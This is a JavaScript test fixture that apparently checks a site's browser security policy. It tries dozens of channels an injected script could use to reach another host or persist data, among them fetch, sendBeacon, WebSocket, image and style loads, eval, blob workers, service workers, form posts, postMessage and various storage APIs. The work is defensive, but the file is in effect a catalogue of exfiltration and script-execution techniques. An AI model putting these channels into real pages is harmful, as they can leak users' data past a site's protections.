/**
 * What an attacker's script could try, had it got into a file of the site. Each way has the name
 * that guides/privacy-and-security.md gives it, and gets the `door` of another host at which it
 * would arrive; a way that leads to no door calls `went` if it was not stopped.
 *
 * The test puts `DOORS` before this file. The address of the page says what to try: `?try=staying`
 * (all that leave the page where it is), `?try=keeping`, or the name of a way.
 */

const DATE = "2031-03-17";
const WORKER = new URLSearchParams(new URL(import.meta.url).search).get("for");

const put = (tag, attributes = {}, parent = document.body) => {
  const element = Object.assign(document.createElement(tag), attributes);
  parent.append(element);
  return element;
};
const link = (rel, href, more = {}) => put("link", { rel, href, ...more }, document.head);
const press = (attributes) => put("a", { textContent: "x", ...attributes }).click();
const send = (door) => fetch(door, { mode: "no-cors" });
const style = (textContent) => put("style", { textContent });
const form = (attributes) => {
  const made = put("form", attributes);
  put("input", { name: "date", value: DATE }, made);
  made.submit();
};
/** Code that tells, when it runs, that it ran. */
let codes = 0;
const code = (went) => {
  const name = `went${(codes += 1)}`;
  globalThis[name] = went;
  return `${name}()`;
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
/** This same file, to run as a worker: it then goes straight to the door. */
const ownFile = (way) => new URL(`?for=${encodeURIComponent(way)}`, import.meta.url);

const STAYING = {
  "`fetch`": send,
  "`fetch` that outlives the page": (door) =>
    fetch(door, { mode: "no-cors", method: "POST", body: DATE, keepalive: true }),
  "`XMLHttpRequest`": (door) => {
    const request = new XMLHttpRequest();
    request.open("GET", door);
    request.send();
  },
  "`sendBeacon`": (door) => navigator.sendBeacon(door, DATE),
  "`WebSocket`": (door) => new WebSocket(door.replace("http", "ws")),
  "`EventSource`": (door) => new EventSource(door),
  "`ping` of a link": (door) => press({ href: "#x", ping: door }),
  "image": (door) => put("img", { src: door }),
  "image in a drawing": (door) => {
    const drawing = "http://www.w3.org/2000/svg";
    const image = document.createElementNS(drawing, "image");
    image.setAttribute("href", door);
    document.body.appendChild(document.createElementNS(drawing, "svg")).append(image);
  },
  "background set by script": (door) => {
    put("p", { textContent: "x" }).style.backgroundImage = `url(${door})`;
  },
  "film": (door) => put("video", { src: door }),
  "sound": (door) => put("audio", { src: door, preload: "auto" }),
  "font": (door) => new FontFace("x", `url(${door})`).load(),
  "icon of the page": (door) => link("icon", door),
  "manifest": (door) => link("manifest", door),
  "style sheet": (door) => link("stylesheet", door),
  "style element": (door) => style(`html { background: url(${door}) }`),
  "style element that imports": (door) => style(`@import "${door}";`),
  "rule put into the site’s own style sheet": (door) => {
    const [sheet] = document.styleSheets;
    sheet.insertRule(`body { list-style: url(${door}); display: list-item }`, sheet.cssRules.length);
  },
  "import put into the site’s own style sheet": (door) =>
    document.styleSheets[0].insertRule(`@import "${door}";`),
  "script of another host": (door) => put("script", { src: door }),
  "module of another host": (door) => import(door),
  "worklet of another host": (door) => new AudioContext().audioWorklet.addModule(door),
  "script written into the page": (_, went) => put("script", { textContent: code(went) }),
  "script in a `data:` address": (_, went) =>
    put("script", { src: `data:text/javascript,${code(went)}` }),
  "script in a `blob:` address": (_, went) => put("script", { src: blob(code(went)) }),
  "handler in an attribute": (_, went) => {
    const button = put("button");
    button.setAttribute("onclick", code(went));
    button.click();
  },
  "`javascript:` link": (_, went) => press({ href: `javascript:${code(went)}` }),
  "`eval`": (_, went) => (0, eval)(code(went)),
  "`new Function`": (_, went) => new Function(code(went))(),
  "timer with a text": (_, went) => setTimeout(code(went)),
  "worker in a `blob:` address": (door) => new Worker(blob(`fetch("${door}", {mode: "no-cors"})`)),
  "worker from a file of the site": () =>
    new Worker(ownFile("worker from a file of the site"), { type: "module" }),
  "shared worker from a file of the site": () =>
    new SharedWorker(ownFile("shared worker from a file of the site"), { type: "module" }),
  "service worker from a file of the site": () =>
    navigator.serviceWorker.register(ownFile("service worker from a file of the site"), {
      type: "module",
    }),
  "frame": (door) => put("iframe", { src: door }),
  "frame with a script of its own": (door) =>
    put("iframe", { srcdoc: `<script>fetch("${door}", {mode: "no-cors"})</script>` }),
  "`object`": (door) => put("object", { data: door }),
  "`embed`": (door) => put("embed", { src: door }),
  "`prefetch`": (door) => link("prefetch", door),
  "`preload`": (door) => link("preload", door, { as: "fetch", crossOrigin: "anonymous" }),
  "`modulepreload`": (door) => link("modulepreload", door),
  "rules for pages to load early": (door) =>
    put("script", {
      type: "speculationrules",
      textContent: JSON.stringify({ prefetch: [{ urls: [door], eagerness: "immediate" }] }),
    }),
  "`preconnect`": (door) => link("preconnect", door),
  "`dns-prefetch`": (door) => link("dns-prefetch", door),
  "another base for the page’s addresses": (door) => {
    const base = put("base", { href: door }, document.head);
    put("img", { src: new URL("x.png", document.baseURI) });
    base.remove();
  },
  "WebRTC": (door) => {
    const urls = `stun:127.0.0.1:${new URL(door).port}`;
    const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
};

const LEAVING = {
  "form sent by GET": (door) => form({ action: door }),
  "form sent by POST": (door) => form({ action: door, method: "post" }),
  "form sent to a new window": (door) => form({ action: door, target: "_blank" }),
  "going to another address": (door) => window.location.assign(door),
  "link that is pressed": (door) => press({ href: door }),
  "link that saves a file": (door) => press({ href: door, download: "x" }),
  "new window": (door) => window.open(door),
  "refresh of the page": (door) =>
    put("meta", { httpEquiv: "refresh", content: `0; url=${door}` }, document.head),
};

/* Tried from a page of another host, which the test opens first. */
const TELLING = {
  "message to a page of another host that opened this one": (door) =>
    window.opener.postMessage({ door }, "*"),
  "message to a page of another host that frames this one": (door) =>
    window.parent.postMessage({ door }, "*"),
};

/* These bring nothing to another host. `went` if what was kept is there afterwards. */
const KEEPING = {
  "cookie": (_, went) => {
    document.cookie = `date=${DATE}`;
    if (document.cookie.includes(DATE)) went();
  },
  "local storage": (_, went) => {
    localStorage.setItem("date", DATE);
    if (localStorage.getItem("date")) went();
  },
  "session storage": (_, went) => {
    sessionStorage.setItem("date", DATE);
    if (sessionStorage.getItem("date")) went();
  },
  "database": (_, went) => {
    indexedDB.open(DATE).onsuccess = went;
  },
  "cache": async (_, went) => {
    await (await caches.open(DATE)).put(`/${DATE}`, new Response(DATE));
    if ((await caches.keys()).includes(DATE)) went();
  },
  "private files": async (_, went) => {
    const folder = await navigator.storage.getDirectory();
    await folder.getFileHandle(DATE, { create: true });
    went();
  },
  "message to other tabs of the site": (_, went) => {
    new BroadcastChannel(DATE).onmessage = went;
    new BroadcastChannel(DATE).postMessage(DATE);
  },
  "name of the window": (_, went) => {
    window.name = DATE;
    if (window.name === DATE) went();
  },
  "title of the page": (_, went) => {
    document.title = DATE;
    if (document.title === DATE) went();
  },
  "address and history of the page": (_, went) => {
    history.pushState({ date: DATE }, "", `?date=${DATE}`);
    if (window.location.search.includes(DATE)) went();
  },
};

/** Try all at once; the document tells which were not stopped, and that all have been tried. */
function attempt(ways) {
  const went = [];
  const { dataset } = document.documentElement;
  for (const [name, way] of Object.entries(ways)) {
    const note = () => {
      went.push(name);
      dataset.went = went.join("; ");
    };
    new Promise((resolve) => resolve(way(DOORS[name], note))).catch(() => {});
  }
  dataset.tried = "";
}

if (WORKER) send(DOORS[WORKER]);
else {
  const wanted = new URLSearchParams(window.location.search).get("try");
  const groups = { staying: STAYING, keeping: KEEPING };
  const all = { ...LEAVING, ...TELLING };
  if (wanted) attempt(groups[wanted] || { [wanted]: all[wanted] });
}
